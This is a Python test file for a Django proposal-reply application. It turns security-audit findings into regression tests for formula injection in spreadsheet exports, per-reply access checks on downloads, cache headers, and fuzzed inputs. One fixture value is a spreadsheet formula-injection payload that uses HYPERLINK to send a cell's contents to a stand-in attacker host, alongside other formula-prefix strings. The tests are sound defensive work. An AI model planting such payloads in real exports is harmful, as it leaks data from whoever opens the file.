"""What the security audit found, each pinned by a test."""

import io
import zipfile
from unittest import mock

import openpyxl
import pytest
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from replies import exports
from replies.models import ExportJob
from tests.replies.pdf_helpers import another_proposal, sent_reply

EVIL_TITLE = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'


@pytest.fixture
def exported(media_root, letters_rendered_once, proposal, cora, alice, lily, bureau_a, dora):
    proposal.title = EVIL_TITLE
    proposal.save()
    sent_reply(proposal, cora, alice, lily, bureau_a)
    for number, title in ((111, "+1+1"), (112, "-2-2"), (113, "@SUM(A1)"), (114, "\tTAB"), (115, "\rCR")):
        other = another_proposal(proposal.session, dora, number)
        other.title = title
        other.save()
        sent_reply(other, cora, alice, lily, bureau_a)
    return exports.export_run_here(by=cora, session=proposal.session)


def test_no_cell_of_the_export_index_is_a_formula(exported):
    archive = zipfile.ZipFile(exports.export_path(exported))
    sheet = openpyxl.load_workbook(io.BytesIO(archive.read("index.xlsx"))).active
    cells = [sheet.cell(row=r, column=2) for r in range(2, sheet.max_row + 1)]
    assert EVIL_TITLE in [c.value for c in cells]  # the text as written…
    assert {c.data_type for c in cells} == {"s"}  # …stored as text, like every other title
    xml = archive.read("index.xlsx")
    with zipfile.ZipFile(io.BytesIO(xml)) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")  # no formula anywhere


def test_an_export_download_rechecks_every_reply_inside(client, exported, cora, proposal):
    client.force_login(cora)
    url = reverse("export-download", args=[exported.pk])
    assert client.get(url).status_code == 200
    # cora keeps the right to export, but one reply of the ZIP is no longer hers to read.
    with mock.patch("replies.selectors.Reply.objects.visible_to") as visible:
        from replies.models import Reply

        visible.return_value = Reply.objects.exclude(pk=exported.reply_ids[0])
        assert client.get(url).status_code == 404


def test_digits_that_are_not_numbers_do_not_break_the_search(client, cora, proposal):
    client.force_login(cora)
    for q in ("²", "①", "٣", "12²", "9" * 40):
        assert client.get(reverse("proposal-list"), {"q": q}).status_code == 200, q


def test_a_malformed_session_on_the_export_form_is_an_error_not_a_crash(client, cora, proposal):
    client.force_login(cora)
    for session in ("abc", "1.5", "-1", "9" * 30):
        response = client.post(reverse("export-new"), {"session": session})
        assert response.status_code == 200 and "请选择会议" in response.content.decode(), session
        assert client.get(reverse("export-new"), {"session": session}).status_code == 200
    assert not ExportJob.objects.exists()


def test_logged_in_pages_and_files_are_never_cached(client, exported, cora, proposal):
    client.force_login(cora)
    reply_id = exported.reply_ids[0]
    for url in (reverse("home"), reverse("proposal-detail", args=[proposal.pk]),
                reverse("reply-pdf", args=[reply_id]), reverse("export-download", args=[exported.pk])):
        cache = client.get(url)["Cache-Control"]
        assert "no-store" in cache and "private" in cache, (url, cache)


LIST_FIELDS = ["q", "session", "state", "bureau", "category", "deputy", "key_supervised", "overdue", "due_soon", "page"]
text = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=30)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(params=st.dictionaries(st.sampled_from(LIST_FIELDS), text, max_size=5))
def test_no_query_of_the_list_or_export_form_is_a_server_error(client, cora, proposal, params):
    client.force_login(cora)
    assert client.get(reverse("proposal-list"), params).status_code == 200
    assert client.get(reverse("export-new"), params).status_code == 200
    with mock.patch("replies.exports._dispatch"):
        assert client.post(reverse("export-new"), params).status_code in (200, 302)


FORM_POSTS = {
    "proposal-register": ["session", "number", "title", "lead_deputy", "co_signers", "timing", "category", "received_on", "reasons", "suggestions"],
}


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.dictionaries(st.sampled_from(FORM_POSTS["proposal-register"]), text, max_size=10))
def test_no_registration_input_is_a_server_error(client, cora, proposal, data):
    client.force_login(cora)
    assert client.post(reverse("proposal-register"), data).status_code in (200, 302)
